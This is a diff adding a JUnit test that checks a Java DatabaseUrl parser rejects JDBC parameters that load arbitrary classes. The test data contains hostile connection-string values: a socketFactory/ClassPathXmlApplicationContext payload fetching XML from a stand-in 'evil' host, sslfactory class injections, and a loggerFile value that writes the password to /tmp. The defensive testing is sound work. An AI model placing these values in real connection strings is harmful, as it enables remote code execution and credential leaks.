@@ -8,6 +8,7 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.nio.file.attribute.PosixFilePermissions;
 import java.time.Duration;
+import java.util.List;
 import java.util.Map;
 import java.util.Properties;
 import org.junit.jupiter.api.Test;
@@ -52,6 +53,20 @@ class DatabaseUrlTest {
                 .isInstanceOf(DriftException.class).hasMessageContaining("2 ports for 3 hosts");
         assertThatThrownBy(() -> DatabaseUrl.parse("postgresql://app:Sekret1@a/db?port=99999", NO_ENV))
                 .hasMessageContaining("bad port '99999'").hasMessageNotContaining("Sekret1");
+    }
+
+    @Test
+    void urlParametersThatLoadCodeAcceptOnlyTheDriversOwnClasses() {
+        assertThat(DatabaseUrl.parse("jdbc:postgresql://a/db?sslfactory=org.postgresql.ssl.NonValidatingFactory", NO_ENV)
+                .jdbcUrl()).isEqualTo("jdbc:postgresql://a/db?sslfactory=org.postgresql.ssl.NonValidatingFactory");
+        for (String hostile : List.of("socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
+                + "&socketFactoryArg=http://evil/x.xml", "sslfactory=com.example.Evil", "SSLFACTORY=com.example.Evil",
+                "sslhostnameverifier=x.Y", "sslpasswordcallback=x.Y", "authenticationPluginClassName=x.Y",
+                "loggerFile=/tmp/x&password=Sekret1")) {
+            assertThatThrownBy(() -> DatabaseUrl.parse("jdbc:postgresql://a/db?" + hostile, NO_ENV))
+                    .isInstanceOf(DriftException.class).hasMessageContaining("Drift accepts only the driver's own classes")
+                    .message().doesNotContain("Sekret1");
+        }
     }
 
     @Test
